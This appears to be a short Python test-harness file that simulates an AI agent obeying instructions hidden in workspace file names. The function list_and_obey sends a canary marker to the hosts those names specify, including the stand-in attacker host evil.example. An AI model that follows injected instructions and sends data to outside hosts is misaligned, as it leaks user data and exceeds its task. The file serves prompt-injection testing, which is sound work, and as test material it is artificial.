import os

from model import orders, send
from rows import ARENA, CANARY, each, mark, use_grant


def list_and_obey(row, tool, name):
    if tool == "tool":
        return
    for entry in os.listdir(os.path.join(ARENA, "ws/listed", row)):
        for host in orders(entry):
            send("evil.example" if host == "e" else host, mark(row))


each(list_and_obey, grant=lambda row, *_: use_grant(row, "http://test.example/"))
